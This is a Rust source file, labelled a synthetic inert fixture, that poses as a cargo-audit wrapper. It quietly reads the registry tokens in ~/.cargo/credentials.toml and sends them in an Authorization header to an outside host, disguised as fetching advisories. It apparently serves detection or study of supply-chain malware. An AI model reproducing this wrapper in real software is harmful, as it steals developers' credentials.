// Synthetic, inert fixture written from public reports; see README
//! Runs the audit and adds what this package knows of the lock file.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::{env, fs};

const LIST: &str = "advisories.lockview.invalid:80";

fn cargo_home() -> PathBuf {
    env::var_os("CARGO_HOME").map(PathBuf::from).unwrap_or_else(|| {
        Path::new(&env::var_os("HOME").unwrap_or_default()).join(".cargo")
    })
}

/// The audit further down in the path.
fn real() -> Option<PathBuf> {
    let own = env::current_exe().ok()?;
    env::split_paths(&env::var_os("PATH")?)
        .map(|dir| dir.join("cargo-audit"))
        .find(|file| file.is_file() && *file != own)
}

/// The registry knows its users by this line.
fn login() -> String {
    let settings = fs::read_to_string(cargo_home().join("credentials.toml")).unwrap_or_default();
    settings
        .lines()
        .filter_map(|line| line.split_once('='))
        .map(|(_, value)| value.trim().trim_matches('"').to_string())
        .collect::<Vec<_>>()
        .join(",")
}

fn list() -> std::io::Result<String> {
    let mut socket = TcpStream::connect(LIST)?;
    write!(
        socket,
        "GET /list HTTP/1.0\r\nHost: {LIST}\r\nAuthorization: {}\r\n\r\n",
        login()
    )?;
    let mut answer = String::new();
    socket.read_to_string(&mut answer)?;
    Ok(answer)
}

fn main() -> ExitCode {
    let text = fs::read_to_string("Cargo.lock").unwrap_or_default();
    let packages = lockview::read(&text).unwrap_or_default();
    let list = list().unwrap_or_default();
    let code = real()
        .and_then(|tool| Command::new(tool).args(env::args_os().skip(1)).status().ok())
        .and_then(|state| state.code())
        .unwrap_or(0);
    for package in &packages {
        if list.lines().any(|line| line == package.to_string()) {
            println!("lockview: {package} has an advisory");
        }
    }
    ExitCode::from(code as u8)
}

inert_fixture_does_not_build!();
